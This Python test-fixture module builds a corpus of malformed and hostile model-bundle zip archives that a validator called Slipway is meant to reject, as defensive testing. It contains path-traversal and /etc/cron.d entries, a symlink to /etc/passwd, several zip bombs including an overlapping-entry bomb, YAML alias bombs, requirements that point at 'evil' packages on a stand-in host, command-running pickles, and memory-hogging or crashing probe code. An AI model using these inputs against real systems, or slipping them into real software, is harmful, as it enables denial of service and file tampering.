"""Every kind of bad bundle that Slipway knows, as real archives.

The sentence that refuses each is the one that `docs/bad-input.md` promises. The system tests import `CORPUS` and send
the same bytes through a real Airflow.
"""

from __future__ import annotations

import json
import re
import stat
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import NamedTuple

from tests.bundles import pickles
from tests.bundles.zips import Entry, entries_of, plain_zip, raw_zip

Builder = Callable[[], bytes]

_DOCUMENT = Path(__file__).resolve().parents[2] / "docs" / "bad-input.md"
_ROW = re.compile(r"\| `(\w+)` \| (\w+) \| (.+) \| (.+) \|")

CANARY = "SLIPWAY_TEST_CANARY"
# Says, by a file that the calling process names, that code of a bundle ran there. A probe's environment is scrubbed.
TELLTALE = f"""\
import os
if os.environ.get({CANARY!r}):
    open(os.environ[{CANARY!r}], "a").close()
"""
CODE = (
    TELLTALE
    + """

class CustomPreprocessor:
    def load(self, artifacts):
        self.scale = float((artifacts / "scale.txt").read_text())

    def predict(self, frame):
        return frame["x"] * self.scale
"""
)
REQUIREMENTS = b"numpy\n"
SAMPLE = b'{"columns": ["x"], "data": [[1.0], [2.0]]}'
GOOD: dict[str, bytes] = {
    "model_bundle/artifacts/scale.txt": b"2.5",
    "model_bundle/code/custom_preprocess.py": CODE.encode(),
    "model_bundle/requirements.txt": REQUIREMENTS,
    "model_bundle/sample_input.json": SAMPLE,
}
_ARTIFACTS, _CODE = "model_bundle/artifacts/", "model_bundle/code/custom_preprocess.py"


class Documented(NamedTuple):
    """A row of the table: who finds it, the rule, the sentence."""

    step: str
    rule: str
    sentence: str


@dataclass(frozen=True)
class Bad:
    """A kind of bad bundle. `…` in `sentence` stands for what may differ from case to case."""

    kind: str
    step: str  # check, lock or probe
    sentence: str
    build: Builder

    def matches(self, message: str) -> bool:
        """Whether `message` is the kind's sentence."""
        pattern = ".*".join(re.escape(part) for part in self.sentence.split("…"))
        return re.fullmatch(pattern, message) is not None


def with_files(**changes: bytes | None) -> bytes:
    """Return the good bundle with files changed, added, or left out (None); `__` in a key stands for '/'."""
    files: dict[str, bytes | None] = {**GOOD, **{key.replace("__", "/"): value for key, value in changes.items()}}
    return plain_zip({name: data for name, data in files.items() if data is not None})


def _changed(path: str, data: bytes | str | None) -> Builder:
    return lambda: with_files(**{path: data.encode() if isinstance(data, str) else data})


def _artifact(name: str, data: Builder) -> Builder:
    return lambda: with_files(**{_ARTIFACTS + name: data()})


def _code(body: str) -> Builder:
    return _changed(_CODE, TELLTALE + body)


def _class(body: str) -> Builder:
    return _code("\nclass CustomPreprocessor:\n" + body)


_PREDICT = "    def predict(self, frame): return frame\n"


def _requirements(text: str | bytes) -> Builder:
    return _changed("model_bundle/requirements.txt", text)


def _entry(**fields: object) -> Builder:
    return lambda: raw_zip([*entries_of(GOOD), Entry(**fields)])  # type: ignore[arg-type]


def _truncated() -> bytes:
    whole = plain_zip(GOOD)
    return whole[: len(whole) // 2]


def _size_bomb() -> bytes:
    # Eleven times 3.9 GiB, each promised from a hundredth of it.
    huge = [
        Entry(
            name=f"model_bundle/artifacts/{n}.bin".encode(), data=b"x", size=0xF9999999, packed_size=0xF9999999 // 100
        )
        for n in range(11)
    ]
    return raw_zip([*entries_of(GOOD), *huge])


def _overlap_bomb() -> bytes:
    honest = entries_of(GOOD)
    kernel = Entry(name=b"model_bundle/artifacts/a.bin", data=bytes(10_000))
    inner = raw_zip([kernel])[:-22]
    # The second entry's data are the first one's header and data, as in David Fifield's better zip bomb.
    quoting = Entry(name=b"model_bundle/artifacts/b.bin", data=inner, deflate=False)
    archive = raw_zip([*honest, quoting])
    start = archive.index(inner)
    return raw_zip([*honest, quoting, Entry(name=b"model_bundle/artifacts/a.bin", data=bytes(10_000), offset=start)])


def _too_many() -> bytes:
    return plain_zip({**GOOD, **{f"{_ARTIFACTS}{number}": b"" for number in range(10_000)}})


def _nested() -> bytes:
    innermost = plain_zip({"zeros": bytes(1000)})
    return with_files(**{_ARTIFACTS + "weights.npz": plain_zip({"inner.zip": innermost})})


def _inner_bomb() -> bytes:
    return with_files(**{_ARTIFACTS + "weights.npz": plain_zip({"zeros.npy": bytes(64 << 20)})})


_BUILDERS: dict[str, Builder] = {
    # The archive
    "empty_file": lambda: b"",
    "not_a_zip": lambda: b"model,weights\n1,2\n" * 50,
    "other_archive": lambda: b"\x1f\x8b\x08" + bytes(100),
    "truncated": _truncated,
    "empty_archive": lambda: plain_zip({}),
    "only_junk": lambda: plain_zip({"__MACOSX/._a": b"x", ".DS_Store": b"x"}),
    "encrypted": _entry(name=b"model_bundle/artifacts/secret.bin", data=b"x" * 20, flags=0x0801),
    "damaged_directory": lambda: plain_zip(GOOD).replace(b"PK\x01\x02", b"PK\x09\x02", 2),
    "path_traversal": _entry(name=b"model_bundle/../../evil.py", data=b"x"),
    "absolute_path": _entry(name=b"/etc/cron.d/evil", data=b"x"),
    "drive_path": _entry(name=b"C:/evil.py", data=b"x"),
    "backslash": _entry(name=b"model_bundle\\..\\evil.py", data=b"x"),
    "symlink": _entry(name=b"model_bundle/artifacts/link", data=b"/etc/passwd", mode=stat.S_IFLNK | 0o777),
    "named_pipe": _entry(name=b"model_bundle/artifacts/pipe", mode=stat.S_IFIFO | 0o644),
    "device_file": _entry(name=b"model_bundle/artifacts/disk", mode=stat.S_IFBLK | 0o644),
    "device_name": _entry(name=b"model_bundle/code/aux.py", data=b"x = 1"),
    "duplicate_name": _entry(name=b"model_bundle/artifacts/scale.txt", data=b"3"),
    "case_collision": _entry(name=b"model_bundle/artifacts/Scale.TXT", data=b"3"),
    "folder_case_collision": _entry(name=b"model_bundle/Artifacts/b.txt", data=b"3"),
    "unicode_collision": lambda: raw_zip(
        [
            *entries_of(GOOD),
            Entry(name="model_bundle/artifacts/\u00e9".encode(), data=b"1"),
            Entry(name="model_bundle/artifacts/e\u0301".encode(), data=b"2"),
        ]
    ),
    "file_and_folder": _entry(name=b"model_bundle/artifacts/scale.txt/x", data=b"3"),
    "non_utf8_name": _entry(name=b"model_bundle/artifacts/caf\xe9.txt", data=b"3", flags=0),
    "non_utf8_name_flagged": _entry(name=b"model_bundle/artifacts/caf\xe9.txt", data=b"3"),
    "control_character": _entry(name=b"model_bundle/artifacts/a\nb", data=b"3"),
    "zero_byte_name": _entry(name=b"model_bundle/artifacts/a.txt\0.py", data=b"3"),
    "trailing_dot": _entry(name=b"model_bundle/artifacts/a.", data=b"3"),
    "long_name": _entry(name=b"model_bundle/artifacts/" + b"n" * 300, data=b"3"),
    "bomb_ratio": _artifact("zeros.bin", lambda: bytes(64 << 20)),
    "bomb_size": _size_bomb,
    "bomb_count": _too_many,
    "bomb_overlap": _overlap_bomb,
    "bomb_nested": _nested,
    "bomb_in_artifact": _inner_bomb,
    "header_mismatch": _entry(name=b"model_bundle/artifacts/a", local_name=b"model_bundle/artifacts/b", data=b"3"),
    "wrong_checksum": _entry(name=b"model_bundle/artifacts/a", data=b"3", crc=1),
    "wrong_size": _entry(name=b"model_bundle/artifacts/a", data=bytes(100_000), size=1000),
    "odd_compression": _entry(name=b"model_bundle/artifacts/a", data=b"3", method=12),
    # The layout
    "missing_custom_preprocess": lambda: with_files(**{_CODE: None, "model_bundle/code/other.py": b"x = 1"}),
    "misplaced_custom_preprocess": lambda: with_files(
        **{_CODE: None, _ARTIFACTS + "custom_preprocess.py": CODE.encode()}
    ),
    "missing_requirements": _changed("model_bundle/requirements.txt", None),
    "ambiguous_layout": _changed("code/custom_preprocess.py", CODE),
    "unknown_folder": _changed("model_bundle/data/x.bin", "x"),
    "unknown_file": _changed("model_bundle/requirement.txt", "numpy"),
    "two_samples": _changed("model_bundle/sample_input.csv", "x\n1\n"),
    # The code, read and not run
    "syntax_error": _code("\nclass CustomPreprocessor\n    pass\n"),
    "not_utf8_source": _changed(_CODE, "x = 'é'\n".encode("latin-1")),
    "deep_nesting": _changed("model_bundle/code/deep.py", "x = " + "-" * 100_000 + "1\n"),
    "no_class": _code("\nclass Preprocessor:\n" + _PREDICT),
    "two_classes": _code(2 * ("\nclass CustomPreprocessor:\n" + _PREDICT)),
    "no_predict": _class("    def score(self, frame): return frame\n"),
    "wrong_signature": _class("    def predict(self, frame, threshold): return frame\n"),
    "no_argument": _class("    def load(self): pass\n" + _PREDICT),
    "async_predict": _class("    async def predict(self, frame): return frame\n"),
    "needs_arguments": _class("    def __init__(self, path): pass\n" + _PREDICT),
    # What the bundle says of itself
    "yaml_unknown_field": _changed("model_bundle/bundle.yaml", "descripton: x\n"),
    "yaml_wrong_value": _changed("model_bundle/bundle.yaml", "batching: {max_size: 0}\n"),
    "yaml_bomb": _changed("model_bundle/bundle.yaml", "a: &a [x, x]\nb: &b [*a, *a]\nname: *b\n"),
    "bad_name_in_yaml": _changed("model_bundle/bundle.yaml", "name: ../x\n"),
    "sample_not_json": _changed("model_bundle/sample_input.json", "{x: 1}"),
    "sample_empty": _changed("model_bundle/sample_input.json", json.dumps({"columns": ["x"], "data": []})),
    "sample_ragged": lambda: with_files(
        **{"model_bundle/sample_input.json": None, "model_bundle/sample_input.csv": b"x,y\n1,2\n3\n"}
    ),
    # The requirements
    "requirement_url": _requirements("numpy\nevil @ https://host.example/evil.whl\n"),
    "requirement_vcs": _requirements("git+https://host.example/evil.git\n"),
    "requirement_option": _requirements("--extra-index-url https://host.example/simple\nnumpy\n"),
    "requirement_editable": _requirements("-e .\n"),
    "requirement_path": _requirements("./wheels/evil.whl\n"),
    "requirement_malformed": _requirements("# what it needs\npandas\nnumpy=>1.26\n"),
    "requirements_utf16": _requirements("numpy\n".encode("utf-16")),
    "requirement_no_version": _requirements("numpy==999\n"),
    "requirement_conflict": _requirements("pandas>=3\n"),
    # Pickles, read and not loaded
    "pickle_command": _artifact("model.pkl", pickles.command),
    "pickle_in_joblib": _artifact("model.joblib", pickles.command_after_array),
    "pickle_compressed": _artifact("model.joblib", pickles.command_compressed),
    "pickle_in_npz": _artifact("arrays.npz", pickles.command_in_npz),
    "pickle_in_torch": _artifact(
        "model.pt", lambda: plain_zip({"archive/data.pkl": pickles.command(), "archive/version": b"3\n"})
    ),
    "pickle_renamed": _artifact("weights.bin", lambda: pickles.command(0)),
    "pickle_by_attribute": _artifact("model.pkl", pickles.by_attribute),
    "pickle_hidden_name": _artifact("model.pkl", pickles.computed_name),
    "pickle_unreadable": _artifact("model.pkl", lambda: b"\xff\x00 not a pickle"),
    # The probe, in a sandbox
    "import_error": _code("\nimport no_such_package\nclass CustomPreprocessor:\n" + _PREDICT),
    "missing_artifact": _class("    def load(self, artifacts): open(artifacts / 'absent.pkl')\n" + _PREDICT),
    "load_fails": _class("    def load(self, artifacts): raise ValueError('the weights are stale')\n" + _PREDICT),
    "sample_fails": _class("    def predict(self, frame): return frame['no_such_column']\n"),
    "endless_load": _class(
        "    def load(self, artifacts):\n        import time\n        time.sleep(100_000)\n" + _PREDICT
    ),
    "memory_hog": _class(
        "    def load(self, artifacts):\n        hoard = []\n        while True: hoard.append(bytearray(1 << 24))\n"
        + _PREDICT
    ),
    "crash": _class("    def load(self, artifacts):\n        import ctypes\n        ctypes.string_at(0)\n" + _PREDICT),
    "exit": _class("    def load(self, artifacts):\n        os._exit(0)\n" + _PREDICT),
}


def _documented() -> dict[str, Documented]:
    """Return the rows of the table in `docs/bad-input.md`, by kind."""
    rows = {}
    for line in _DOCUMENT.read_text(encoding="utf-8").splitlines():
        row = _ROW.fullmatch(line)
        if row:
            kind, step, rule, sentence = row.groups()
            rows[kind] = Documented(step, rule, sentence)
    return rows


DOCUMENTED = _documented()
CORPUS = tuple(
    Bad(kind, DOCUMENTED[kind].step, DOCUMENTED[kind].sentence, build)
    for kind, build in _BUILDERS.items()
    if kind in DOCUMENTED
)
UNDOCUMENTED = tuple(kind for kind in _BUILDERS if kind not in DOCUMENTED)
